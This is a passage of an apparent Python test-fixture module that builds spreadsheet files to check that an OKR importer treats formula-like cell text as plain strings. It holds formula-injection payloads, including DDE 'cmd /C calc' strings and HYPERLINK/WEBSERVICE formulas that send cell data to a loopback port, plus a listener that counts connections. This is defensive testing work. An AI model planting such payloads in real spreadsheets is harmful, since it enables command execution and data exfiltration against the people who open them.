    ]
    return package(workbook_parts({"OKRs": rows})), texts


def shared_string_index(value: str) -> bytes:
    """The first KR's title cell pointing at shared string ``value`` (999999, -1, abc)."""
    parts = workbook_parts()
    strings = SharedStrings()
    sheet_xml([HEADER, *ROWS], strings)
    index = strings.index[str(ROWS[0][2])]
    parts = edit(
        parts,
        "xl/worksheets/sheet1.xml",
        lambda t: t.replace(f'<c r="C2" t="s"><v>{index}</v>', f'<c r="C2" t="s"><v>{value}</v>'),
    )
    return package(parts)


FORMULA_TEXTS = [
    '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://127.0.0.1:9/")',
]


def formula_text_rows(texts: list[str] = FORMULA_TEXTS) -> bytes:
    """KR titles that look like formulas, stored as plain strings (TXT-1)."""
    rows = [
        HEADER,
        *(
            [ROWS[0][0], ROWS[0][1], text, f"o{i}@example.com", 1, 2, 1, "", 0.5, "2026-12-31"]
            for i, text in enumerate(texts)
        ),
    ]
    return package(workbook_parts({"OKRs": rows}))


# --- G5: a loopback listener nothing may connect to ----------------------------------------


class Listener:
    """A TCP listener on 127.0.0.1: payloads point at its port; connections are counted."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.setblocking(False)
        self.port: int = self.sock.getsockname()[1]

    def connections(self) -> int:
        """How many connections arrived (the kernel completes them even unaccepted)."""
        count = 0
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return count
            conn.close()
            count += 1

    def close(self) -> None:
        self.sock.close()


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()
